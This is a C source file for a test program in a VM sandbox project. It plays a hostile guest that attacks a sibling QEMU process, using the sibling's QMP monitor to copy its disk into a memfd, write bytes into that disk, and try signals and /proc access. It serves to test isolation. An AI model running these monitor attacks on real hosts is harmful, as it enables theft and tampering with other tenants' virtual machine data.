/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * sibling_attack: a hostile emulator (static: it needs no open after exec)
 * that vmseal runs as guest A, attacking guest B, a real QEMU running at
 * the same time:
 *
 *   sibling_attack --pid PID --dir DIR [--socket SOCK] [--size BYTES]
 *                  [--node NODE] [vmseal's own arguments, ignored]
 *
 * PID is B's emulator, DIR its runtime directory, SOCK its QMP socket
 * (DIR/qmp.sock), BYTES the virtual size of B's disk node NODE (root).
 * Through B's monitor: add-fd of a memfd (SCM_RIGHTS), blockdev-add of
 * /dev/fdset/77, blockdev-backup of B's disk into it and a read of what
 * arrived; a write to B's disk with HMP qemu-io.  Then the attacks of
 * sandbox/sibling.c (bind in DIR, kill, SIGSTOP, prlimit64, setpriority,
 * /proc/PID/exe and fd).  One line per attack on stdout:
 *
 *   ATTACK name=NAME result=succeeded|failed errno=ENAME|- detail=TEXT
 *
 * after a first "SELF uid=U gid=G pid=P", and "DONE" at the end; the exit
 * status is 0 whatever the results.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "sandbox/sibling.h"

#define FDSET 77

struct conn {
	int fd;
	char buf[65536];
	size_t len;
};

static void report(const char *name, const struct sibling_result *r)
{
	char line[512];

	sibling_result_line(name, r, line, sizeof(line));
	printf("%s\n", line);
	fflush(stdout);
}

static void fail(struct sibling_result *r, int err, const char *fmt,
		 const char *arg)
{
	r->err = err;
	snprintf(r->detail, sizeof(r->detail), fmt, arg);
}

/* One line (without the newline) into out; -errno, -ETIMEDOUT. */
static int read_line(struct conn *c, char *out, size_t len, int timeout_ms)
{
	for (;;) {
		char *nl = memchr(c->buf, '\n', c->len);
		struct pollfd p = { .fd = c->fd, .events = POLLIN };
		ssize_t n;

		if (nl) {
			size_t l = (size_t)(nl - c->buf);

			snprintf(out, len, "%.*s", (int)l, c->buf);
			memmove(c->buf, nl + 1, c->len - l - 1);
			c->len -= l + 1;
			return 0;
		}
		if (c->len == sizeof(c->buf))
			return -E2BIG;
		n = poll(&p, 1, timeout_ms);
		if (n == 0)
			return -ETIMEDOUT;
		if (n < 0)
			return -errno;
		n = read(c->fd, c->buf + c->len, sizeof(c->buf) - c->len);
		if (n == 0)
			return -ECONNRESET;
		if (n < 0)
			return -errno;
		c->len += (size_t)n;
	}
}

/* The next reply that is no event. */
static int read_reply(struct conn *c, char *out, size_t len)
{
	for (;;) {
		int rc = read_line(c, out, len, 20000);

		if (rc < 0)
			return rc;
		if (strstr(out, "\"return\"") || strstr(out, "\"error\"") ||
		    strstr(out, "\"QMP\""))
			return 0;
	}
}

/* Sends cmd (with fd as SCM_RIGHTS when >= 0) and reads its reply. */
static int exchange(struct conn *c, const char *cmd, int fd, char *out,
		    size_t len)
{
	char ctl[CMSG_SPACE(sizeof(int))] = { 0 };
	struct iovec iov = { .iov_base = (void *)cmd, .iov_len = strlen(cmd) };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };

	if (fd >= 0) {
		struct cmsghdr *h;

		m.msg_control = ctl;
		m.msg_controllen = sizeof(ctl);
		h = CMSG_FIRSTHDR(&m);
		h->cmsg_level = SOL_SOCKET;
		h->cmsg_type = SCM_RIGHTS;
		h->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(h), &fd, sizeof(int));
	}
	if (sendmsg(c->fd, &m, MSG_NOSIGNAL) != (ssize_t)iov.iov_len)
		return -errno;
	return read_reply(c, out, len);
}

/* Waits until job is gone from query-block-jobs (at most 20 s). */
static int wait_job(struct conn *c, const char *job, char *reply, size_t len)
{
	int rc = 0;

	for (int i = 0; i < 200; i++) {
		rc = exchange(c, "{\"execute\":\"query-block-jobs\"}\n", -1, reply,
			      len);
		if (rc < 0 || !strstr(reply, job))
			break;
		nanosleep(&(struct timespec){ 0, 100000000 }, NULL);
	}
	return rc;
}

/* blockdev-backup of node into the stolen node: 0, or -errno / -EPERM. */
static int backup(struct conn *c, const char *node, const char *job,
		  char *reply, size_t len)
{
	char cmd[512];
	int rc;

	snprintf(cmd, sizeof(cmd),
		 "{\"execute\":\"blockdev-backup\",\"arguments\":{\"job-id\":"
		 "\"%s\",\"device\":\"%s\",\"target\":\"sibling-steal\","
		 "\"sync\":\"full\"}}\n",
		 job, node);
	rc = exchange(c, cmd, -1, reply, len);
	if (rc == 0 && strstr(reply, "\"return\""))
		rc = wait_job(c, job, reply, len);
	if (rc == 0 && strstr(reply, "\"error\""))
		rc = -EPERM;
	return rc;
}

/* The QMP attacks through a connected monitor: each reported. */
static void through_monitor(struct conn *c, const char *node, long long size)
{
	struct sibling_result r = { 0 };
	char reply[8192], cmd[512];
	unsigned char *data = MAP_FAILED;
	long long nonzero = 0;
	int memfd, rc;

	rc = read_reply(c, reply, sizeof(reply));
	if (rc == 0)
		rc = exchange(c, "{\"execute\":\"qmp_capabilities\"}\n", -1, reply,
			      sizeof(reply));
	memfd = memfd_create("sibling-disk", MFD_CLOEXEC);
	if (rc == 0 && (memfd < 0 || ftruncate(memfd, size) < 0))
		rc = -errno;
	if (rc == 0) {
		data = mmap(NULL, (size_t)size, PROT_READ, MAP_SHARED, memfd, 0);
		if (data == MAP_FAILED)
			rc = -errno;
	}
	if (rc == 0) {
		snprintf(cmd, sizeof(cmd),
			 "{\"execute\":\"add-fd\",\"arguments\":{\"fdset-id\":%d}}\n",
			 FDSET);
		rc = exchange(c, cmd, memfd, reply, sizeof(reply));
	}
	if (rc < 0)
		fail(&r, -rc, "monitor: %s", strerror(-rc));
	else if (!strstr(reply, "\"fdset-id\""))
		fail(&r, EPERM, "refused: %.120s", reply);
	else
		snprintf(r.detail, sizeof(r.detail), "memfd in fd set %d", FDSET);
	report("qmp-add-fd", &r);
	if (r.err)
		goto write;

	snprintf(cmd, sizeof(cmd),
		 "{\"execute\":\"blockdev-add\",\"arguments\":{\"driver\":\"file\","
		 "\"node-name\":\"sibling-steal\",\"filename\":\"/dev/fdset/%d\"}}\n",
		 FDSET);
	rc = exchange(c, cmd, -1, reply, sizeof(reply));
	memset(&r, 0, sizeof(r));
	if (rc < 0)
		fail(&r, -rc, "monitor: %s", strerror(-rc));
	else if (!strstr(reply, "\"return\""))
		fail(&r, EPERM, "refused: %.120s", reply);
	else
		snprintf(r.detail, sizeof(r.detail), "node on /dev/fdset/%d", FDSET);
	report("qmp-blockdev-add", &r);
	if (r.err)
		goto write;

	rc = backup(c, node, "sibling-steal", reply, sizeof(reply));
	memset(&r, 0, sizeof(r));
	if (rc < 0) {
		fail(&r, -rc, "refused: %.120s", reply);
	} else {
		for (long long i = 0; i < size; i++)
			nonzero += data[i] != 0;
		if (nonzero)
			snprintf(r.detail, sizeof(r.detail),
				 "%lld bytes of %s copied out, %lld non-zero, "
				 "first byte 0x%02x",
				 size, node, nonzero, data[0]);
		else
			fail(&r, ENODATA, "%s", "nothing arrived");
	}
	report("qmp-backup-read", &r);
write:
	/* Writing B's disk needs nothing but the monitor. */
	snprintf(cmd, sizeof(cmd),
		 "{\"execute\":\"human-monitor-command\",\"arguments\":"
		 "{\"command-line\":\"qemu-io %s \\\"write -P 0x58 0 16\\\"\"}}\n",
		 node);
	rc = exchange(c, cmd, -1, reply, sizeof(reply));
	memset(&r, 0, sizeof(r));
	if (rc < 0) {
		fail(&r, -rc, "monitor: %s", strerror(-rc));
	} else if (strstr(reply, "\"error\"")) {
		fail(&r, EPERM, "refused: %.120s", reply);
	} else if (!nonzero) {
		/* qemu-io prints to B's stdout: count it as written. */
		snprintf(r.detail, sizeof(r.detail),
			 "the monitor ran qemu-io on %s (not read back)", node);
	} else if (backup(c, node, "sibling-check", reply, sizeof(reply)) == 0 &&
		   memcmp(data, "XXXXXXXXXXXXXXXX", 16) == 0) {
		snprintf(r.detail, sizeof(r.detail),
			 "16 bytes of 0x58 written to %s (read back)", node);
	} else {
		fail(&r, EPERM, "%s", "qemu-io ran but the data did not change");
	}
	report("qmp-write", &r);
	if (data != MAP_FAILED)
		munmap(data, (size_t)size);
	if (memfd >= 0)
		close(memfd);
}

int main(int argc, char **argv)
{
	struct sibling_target t = { 0 };
	static const char *const qmp_attacks[] = {
		"qmp-add-fd", "qmp-blockdev-add", "qmp-backup-read", "qmp-write",
	};
	static struct conn c = { .fd = -1 };
	struct sibling_result r;
	const char *node = "root";
	long long size = 64 << 20;
	char sock[4096];

	for (int i = 1; i + 1 < argc; i++) {
		if (!strcmp(argv[i], "--pid"))
			t.pid = (pid_t)atoi(argv[++i]);
		else if (!strcmp(argv[i], "--dir"))
			t.dir = argv[++i];
		else if (!strcmp(argv[i], "--socket"))
			t.socket = argv[++i];
		else if (!strcmp(argv[i], "--size"))
			size = atoll(argv[++i]);
		else if (!strcmp(argv[i], "--node"))
			node = argv[++i];
	}
	if (t.pid <= 0 || !t.dir || size <= 0) {
		fprintf(stderr, "usage: sibling_attack --pid PID --dir DIR "
				"[--socket SOCK] [--size BYTES] [--node NODE]\n");
		return 2;
	}
	if (!t.socket) {
		snprintf(sock, sizeof(sock), "%s/qmp.sock", t.dir);
		t.socket = sock;
	}
	printf("SELF uid=%u gid=%u pid=%d\n", (unsigned)getuid(),
	       (unsigned)getgid(), (int)getpid());
	sibling_attack_run(SIB_CONNECT, &t, &r, &c.fd);
	report(sibling_attack_name(SIB_CONNECT), &r);
	if (c.fd >= 0) {
		through_monitor(&c, node, size);
		close(c.fd);
	} else {
		for (size_t i = 0; i < sizeof(qmp_attacks) / sizeof(*qmp_attacks); i++) {
			struct sibling_result no = { .err = r.err };

			snprintf(no.detail, sizeof(no.detail), "no monitor: %s",
				 strerror(r.err));
			report(qmp_attacks[i], &no);
		}
	}
	for (int a = SIB_BIND; a < SIB_COUNT; a++) {
		sibling_attack_run((enum sibling_attack)a, &t, &r, NULL);
		report(sibling_attack_name((enum sibling_attack)a), &r);
	}
	printf("DONE\n");
	return 0;
}
